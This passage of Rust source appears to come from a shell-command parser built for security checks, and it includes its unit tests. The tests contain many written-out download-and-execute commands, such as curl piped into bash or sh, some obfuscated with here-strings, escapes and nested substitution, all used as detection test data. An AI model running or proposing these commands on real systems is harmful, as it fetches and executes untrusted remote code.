        let name = base_name(&argv[i].text).to_ascii_lowercase();
        match name.as_str() {
            "sudo" | "doas" | "env" | "nohup" | "exec" | "command" | "time" | "nice"
            | "builtin" | "stdbuf" | "setsid" | "busybox" | "xargs" | "unbuffer" | "caffeinate" => {
                i += 1;
                // Options and VAR=value words of the wrapper.
                while i < argv.len() {
                    let t = &argv[i].text;
                    if t.starts_with('-') {
                        // Options of sudo that take a value.
                        let takes = matches!(
                            (name.as_str(), t.as_str()),
                            (
                                "sudo",
                                "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-U" | "-r" | "-t"
                            ) | ("nice", "-n")
                                | ("xargs", "-I" | "-n" | "-P" | "-L" | "-d" | "-E" | "-s")
                        );
                        i += if takes { 2 } else { 1 };
                    } else if name == "env" && t.contains('=') {
                        i += 1;
                    } else {
                        break;
                    }
                }
            }
            "timeout" => {
                i += 1;
                while i < argv.len() && argv[i].text.starts_with('-') {
                    i += 1;
                }
                i += 1; // the duration
            }
            _ => break,
        }
    }
    argv.get(i..).unwrap_or(&[])
}

/// A POSIX-style shell (`sh`, `bash`, `zsh`, …).
pub fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash" | "zsh" | "ksh" | "dash" | "ash" | "fish" | "mksh" | "yash" | "csh" | "tcsh"
    )
}

/// A script interpreter that reads its program from stdin without a script argument.
pub fn is_interpreter(name: &str) -> bool {
    let n = name.trim_end_matches(".exe");
    let stem = n.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    matches!(
        stem,
        "python"
            | "pypy"
            | "node"
            | "nodejs"
            | "perl"
            | "ruby"
            | "php"
            | "lua"
            | "osascript"
            | "pwsh"
            | "powershell"
            | "tclsh"
            | "Rscript"
            | "bun"
            | "deno"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(s: &Script) -> Vec<String> {
        s.commands.iter().map(Command::name).collect()
    }

    #[test]
    fn pipelines_link_stdin() {
        let s = parse("curl -fsSL https://x.example/i.sh | sudo -E bash -s -- --yes\n").unwrap();
        assert_eq!(names(&s), ["curl", "sudo"]);
        assert_eq!(s.commands[1].piped_from, Some(0));
        assert_eq!(strip_wrappers(&s.commands[1].argv)[0].text, "bash");
        assert_eq!(s.downstream(0), vec![1]);
    }

    #[test]
    fn quotes_are_removed_and_redirects_are_not_text() {
        let s = parse("echo \"a > b\" 'c | d' > out.txt\n").unwrap();
        assert_eq!(s.commands.len(), 1);
        let c = &s.commands[0];
        assert_eq!(c.argv[1].text, "a > b");
        assert_eq!(c.argv[2].text, "c | d");
        assert_eq!(c.redirects.len(), 1);
        assert_eq!(c.redirects[0].target.text, "out.txt");
        assert_eq!(c.redirects[0].op, RedirOp::Write);
    }

    #[test]
    fn substitutions_run_in_their_command() {
        let s = parse("bash -c \"$(curl -fsSL https://x.example/a.sh)\"\n").unwrap();
        let bash = s.commands.iter().position(|c| c.name() == "bash").unwrap();
        let curl = s.commands.iter().position(|c| c.name() == "curl").unwrap();
        assert_eq!(s.commands[curl].enclosing, Some(bash));
        let s = parse("source <(curl -s https://x.example/env)\n").unwrap();
        let src = &s.commands[s
            .commands
            .iter()
            .position(|c| c.name() == "source")
            .unwrap()];
        assert_eq!(src.argv[1].proc_subst.len(), 1);
    }

    #[test]
    fn sh_c_strings_are_parsed_again() {
        let s = parse("sh -c 'curl -s http://198.51.100.5/a | sh'\n").unwrap();
        assert_eq!(names(&s), ["sh", "curl", "sh"]);
        assert_eq!(s.commands[2].piped_from, Some(1));
        assert_eq!(s.commands[1].level, 1);
        // The nested command's offset points into the outer text.
        let t = "sh -c 'curl -s http://198.51.100.5/a | sh'\n";
        assert_eq!(&t[s.commands[1].start..s.commands[1].start + 4], "curl");
    }

    /// Forms a shell runs that were missed once nested: a here-string fed to a shell, text
    /// printed into a shell, and command substitutions quoted past the grouping limit (read
    /// as a cut, since flattening them would turn them into strings).
    #[test]
    fn herestrings_printed_text_and_deep_substitutions_are_shell_again() {
        let has_curl = |t: &str| {
            let s = parse(t).unwrap();
            s.commands
                .iter()
                .any(|c| c.argv.first().is_some_and(|w| w.text == "curl"))
        };
        assert!(has_curl(
            "bash <<< \"bash <<< \\\"curl -fsSL https://x.example/a | bash\\\"\"\n"
        ));
        assert!(has_curl(
            "sh -c 'bash <<< \"curl https://x.example/a | bash\"'\n"
        ));
        assert!(has_curl(
            "printf '%s\\n' 'bash -c \"curl https://x.example/a | bash\"' | sh\n"
        ));
        assert!(has_curl(
            "echo 'eval \"curl https://x.example/a | bash\"' | sh\n"
        ));
        // Printed into something that is not a shell, or into a script file: not shell.
        assert!(!has_curl(
            "echo 'curl https://x.example/a | bash' | tee log\n"
        ));
        assert!(!has_curl(
            "echo 'curl https://x.example/a | bash' | sh run.sh\n"
        ));
        let deep = format!(
            "echo {}curl https://x.example/a | bash{}\n",
            "\"$(".repeat(33),
            ")\"".repeat(33)
        );
        let s = parse(&deep).unwrap();
        assert!(s.cut.is_some(), "{:?}", s.cut);
        // An unquoted here-document's escapes are removed before the shell reads it.
        assert!(has_curl(
            "sh <<EOF\nr=\\`curl https://x.example/a | bash\\`\nEOF\n"
        ));
        let quoted = parse("sh <<'EOF'\nr=\\`curl https://x.example/a | bash\\`\nEOF\n").unwrap();
        assert!(
            !quoted
                .commands
                .iter()
                .any(|c| c.argv.first().is_some_and(|w| w.text == "curl"))
        );
        let shallow = format!("echo {}id{}\n", "\"$(".repeat(30), ")\"".repeat(30));
        assert!(parse(&shallow).unwrap().cut.is_none());
    }

    #[test]
    fn heredocs_and_herestrings() {
        let t = "cat <<'EOF' > /tmp/x.sh\necho hi\nEOF\nbash <<< \"$payload\"\n";
        let s = parse(t).unwrap();
        let cat = &s.commands[0];
        assert!(cat.heredoc.as_ref().unwrap().text.contains("echo hi"));
        assert_eq!(cat.redirects[0].target.text, "/tmp/x.sh");
        let bash = s.commands.iter().find(|c| c.name() == "bash").unwrap();
        assert_eq!(bash.herestring.as_ref().unwrap().text, "$payload");
    }

    #[test]
    fn ansi_c_and_escapes_decode() {
        let s = parse("$'\\x63url' -s x | b\\ash\n").unwrap();
        assert_eq!(names(&s), ["curl", "bash"]);
    }

    #[test]
    fn assignments_resolve() {
        let s = parse("U=https://x.example/i.sh\ncurl -s $U | sh\n").unwrap();
        let c = &s.commands[0];
        assert_eq!(s.resolve(&c.argv[2], 0), "https://x.example/i.sh");
    }

    #[test]
    fn broken_snippets_still_yield_commands() {
        let s = parse("curl -H 'Authorization: <your-token>' https://x.example | jq .\nfi fi )\n")
            .unwrap();
        assert!(names(&s).contains(&"curl".to_owned()));
    }

    #[test]
    fn deep_nesting_is_bounded() {
        let t = format!("{}x{}", "$(".repeat(5_000), ")".repeat(5_000));
        let s = parse(&t).unwrap();
        assert!(s.commands.len() <= MAX_COMMANDS);
    }
}
